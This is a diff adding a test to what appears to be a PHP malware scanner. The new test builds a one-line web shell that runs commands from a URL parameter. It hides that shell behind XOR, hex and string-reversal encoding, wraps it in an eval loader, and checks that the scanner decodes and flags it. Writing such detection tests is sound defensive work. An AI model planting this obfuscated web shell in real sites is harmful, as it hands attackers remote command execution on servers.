@@ -1362,3 +1362,21 @@ def test_a_name_looked_up_two_ways_is_left_alone() -> None:
     # a key given two names, a local assigned a name and something else: no guess
     page = b'<?php $GLOBALS["k"] = "a"; $GLOBALS["k"] = "b"; $v = "c"; $v = f(); ${$v} = ${$GLOBALS["k"]};'
     assert varnames.resolve(page, 1 << 20) is None
+
+
+def test_a_payload_under_the_pages_own_xor_cipher_is_decoded(
+    ruleset: RuleSet, tmp_path: Path
+) -> None:
+    # the key sits in a literal of the page; the cipher is the page's own function
+    key = b"k3yZ"
+    code = b"<?php system($_GET['c']); ?>" + b"<p>padding</p>" * 8
+    stream = (key * len(code))[: len(code)]
+    hexed = bytes(a ^ b for a, b in zip(code, stream, strict=True)).hex().encode()[::-1]
+    page = (
+        b"<?php function dx($h, $k) { $d = hex2bin(strrev($h)); $o = '';"
+        b" for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }"
+        b' return $o; }\n$p = "' + hexed + b'";\n$w = "' + key + b"\";\neval('?>' . dx($p, $w));"
+    )
+    assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}
+    # without the key in the page, nothing decodes to code
+    assert payload.unxor(bytes.fromhex(hexed[::-1].decode()), [b"nope"]) is None
